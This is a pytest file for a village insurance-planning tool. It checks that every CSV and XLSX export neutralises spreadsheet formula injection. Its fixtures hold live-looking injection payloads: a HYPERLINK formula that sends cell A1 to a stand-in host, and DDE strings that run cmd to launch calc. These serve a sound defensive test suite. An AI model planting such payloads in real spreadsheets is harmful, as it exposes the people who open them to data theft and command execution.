"""No text cell desaplan writes is a formula a spreadsheet would run (OWASP's rule), in every CSV
and XLSX: targets, kecamatan, totals, comparisons, the village table, the CLI's outputs. Each test
opens the file back as a planner's spreadsheet would (pandas, openpyxl) and looks at every cell."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import solver
from app.cli import main
from models import Problem, Scenario, SolveOptions
from scenarios import (
    read_villages,
    targets_csv_bytes,
    targets_xlsx_bytes,
    villages_csv_bytes,
    villages_from_rows,
    villages_xlsx_bytes,
)
from scenarios.compare import compare_plans, comparison_csv_bytes, comparison_xlsx_bytes
from scenarios.safe_cells import FORMULA_STARTS, neutralise_text, restore_text

EVIL_NAMES = [
    '=HYPERLINK("http://example.invalid/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _table() -> object:
    rows = [
        {
            "village_code": f"32.16.01.{2001 + i}",
            "village_name": name,
            "kecamatan": "=KECAMATAN()" if i % 2 else "-Babelan",
            "kabupaten": "@Bekasi",
            "dana_desa_idr": 1_500_000_000,
            "uninsured_farmers": 300 + i,
        }
        for i, name in enumerate(EVIL_NAMES)
    ]
    return villages_from_rows(rows, source="evil")


def _plan(share: float) -> object:
    scenario = Scenario.model_validate(
        {
            "name": "=cmd|' /C calc'!A0",
            "packages": [{"code": "-JKK", "monthly_premium_idr": 16800}],
            "budget": {"dana_desa_share": share},
        }
    )
    return solver.solve(Problem(table=_table(), scenario=scenario), SolveOptions(time_limit_s=20))  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def plans() -> tuple[object, object]:
    return _plan(0.03), _plan(0.01)


def _unsafe(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_csv(content: bytes) -> pd.DataFrame:
    """Every cell read as text: only numbers (-5 is a number, not a formula) may start with a
    formula's first character."""
    frame = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False)
    cells = [cell for column in frame.columns for cell in frame[column]]
    bad = [cell for cell in cells if _unsafe(cell) and not _is_number(cell)]
    assert not bad, bad
    assert not [c for c in frame.columns if _unsafe(c)]
    return frame


SUBTOTAL = re.compile(r"^=SUBTOTAL\(109,[A-Z]+\d+:[A-Z]+\d+\)$")


def _check_xlsx(content: bytes) -> dict[str, list[tuple[object, ...]]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    sheets = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # the only formulas: a totals row's SUBTOTAL over the column above it
                if cell.data_type == "f":
                    assert SUBTOTAL.match(str(cell.value)), (sheet.title, cell.coordinate, cell.value)
                    continue
                assert not _unsafe(cell.value), (sheet.title, cell.coordinate, cell.value)
        sheets[sheet.title] = list(sheet.iter_rows(values_only=True))
    return sheets


def test_targets_csv(plans: tuple[object, object]) -> None:
    frame = _check_csv(targets_csv_bytes(plans[0]))  # type: ignore[arg-type]

    # names are stored trimmed: "\t=1+1" is the village "=1+1"
    assert frame["village_name"].tolist() == ["'" + name.strip() for name in EVIL_NAMES]


def test_targets_xlsx_with_its_kecamatan_and_totals_sheets(plans: tuple[object, object]) -> None:
    sheets = _check_xlsx(targets_xlsx_bytes(plans[0]))  # type: ignore[arg-type]

    assert set(sheets) == {"targets", "kecamatan", "totals"}
    assert sheets["targets"][1][1] == "'" + EVIL_NAMES[0]
    assert ("scenario", "'=cmd|' /C calc'!A0") in sheets["totals"]
    assert {row[1] for row in sheets["kecamatan"][1:]} == {"'=KECAMATAN()", "'-Babelan"}


def test_comparison_csv_keeps_negative_numbers_as_numbers(plans: tuple[object, object]) -> None:
    comparison = compare_plans(("=base", plans[0]), [("+other", plans[1])])  # type: ignore[arg-type]

    for table in ("totals", "kecamatan", "villages", "losers"):
        _check_csv(comparison_csv_bytes(comparison, table))
    villages = pd.read_csv(io.BytesIO(comparison_csv_bytes(comparison, "villages")))
    assert pd.api.types.is_numeric_dtype(villages["new_enrollments_delta"])
    assert (villages["new_enrollments_delta"] < 0).any()


def test_comparison_xlsx(plans: tuple[object, object]) -> None:
    comparison = compare_plans(("=base", plans[0]), [("+other", plans[1])])  # type: ignore[arg-type]

    sheets = _check_xlsx(comparison_xlsx_bytes(comparison))

    header = sheets["villages"][0]
    delta = header.index("new_enrollments_delta")
    deltas = [row[delta] for row in sheets["villages"][1:]]
    assert all(isinstance(d, int | float) for d in deltas) and min(deltas) < 0  # type: ignore[type-var]


def test_village_table_csv_and_xlsx_are_safe_and_read_back_the_same(tmp_path: Path) -> None:
    table = _table()

    csv = villages_csv_bytes(table)  # type: ignore[arg-type]
    xlsx = villages_xlsx_bytes(table)  # type: ignore[arg-type]

    _check_csv(csv)
    _check_xlsx(xlsx)
    assert read_villages(csv, "back.csv").villages == table.villages  # type: ignore[attr-defined]
    assert read_villages(xlsx, "back.xlsx").villages == table.villages  # type: ignore[attr-defined]


def test_the_cli_writes_safe_targets(tmp_path: Path) -> None:
    villages = tmp_path / "villages.csv"
    villages.write_bytes(villages_csv_bytes(_table()))  # type: ignore[arg-type]
    scenario = tmp_path / "scenario.json"
    scenario.write_text(
        '{"name": "=evil", "packages": [{"code": "@P", "monthly_premium_idr": 16800}],'
        ' "budget": {"dana_desa_share": 0.03}}'
    )

    status = main(
        ["solve", "--villages", str(villages), "--scenario", str(scenario), "--out", str(tmp_path / "out")]
    )

    assert status == 0
    _check_csv((tmp_path / "out" / "targets.csv").read_bytes())
    _check_xlsx((tmp_path / "out" / "targets.xlsx").read_bytes())


@given(st.text(max_size=12))
def test_neutralising_is_undone_exactly(text: str) -> None:
    safe = neutralise_text(text)

    assert not safe.startswith(FORMULA_STARTS)
    assert restore_text(safe) == text


def test_the_next_rupiah_tables_and_workbook_are_safe(plans: tuple[object, object]) -> None:
    from scenarios import insights_io, insights_sheets

    plan = plans[0]
    for frame in (
        insights_io.village_marginals(plan),
        insights_io.top_villages(plan),  # type: ignore[arg-type]
        insights_io.kecamatan_marginals(plan),
        insights_io.pool_marginals(plan),
    ):  # type: ignore[arg-type]
        _check_csv(insights_io.frame_csv_bytes(frame))

    sheets = _check_xlsx(insights_sheets.marginals_xlsx_bytes(plan))  # type: ignore[arg-type]

    assert sheets["Villages"][1][1] == "'" + EVIL_NAMES[0]


def test_the_shortfalls_workbook_of_an_infeasible_plan_is_safe() -> None:
    from scenarios import insights_sheets

    scenario = Scenario.model_validate(
        {
            "name": "=floor",
            "packages": [{"code": "-JKK", "monthly_premium_idr": 16800}],
            "budget": {"dana_desa_share": 0.0001},
            "targets": {"min_coverage": 0.9},
        }
    )
    plan = solver.solve(Problem(table=_table(), scenario=scenario), SolveOptions(time_limit_s=20))  # type: ignore[arg-type]
    assert plan.short_villages

    sheets = _check_xlsx(insights_sheets.infeasibility_xlsx_bytes(plan))

    names = {row[1] for row in sheets["Short villages"][1:-1]}  # the last row: the totals
    assert names == {"'" + name.strip() for name in EVIL_NAMES}


def test_the_cost_of_fairness_workbook_is_safe(plans: tuple[object, object]) -> None:
    from scenarios import insights_io, insights_sheets
    from scenarios.compare import fairness_frames

    summary, villages = fairness_frames([("=with every floor", plans[0]), ("+without", plans[1])])  # type: ignore[list-item]

    _check_csv(insights_io.frame_csv_bytes(summary))
    _check_xlsx(insights_sheets.fairness_xlsx_bytes(summary, villages))


def test_columns_without_text_are_left_as_they_are() -> None:
    from scenarios.safe_cells import neutralise_frame

    frame = pd.DataFrame(
        {
            "check_ok": pd.Series([True, False], dtype=object),
            "value": pd.Series([None, -5], dtype=object),
            "name": pd.Series(["=1+1", 3], dtype=object),
        }
    )

    safe = neutralise_frame(frame)

    assert safe["check_ok"].tolist() == [True, False]
    assert safe["value"].tolist() == [None, -5]
    assert safe["name"].tolist() == ["'=1+1", 3]
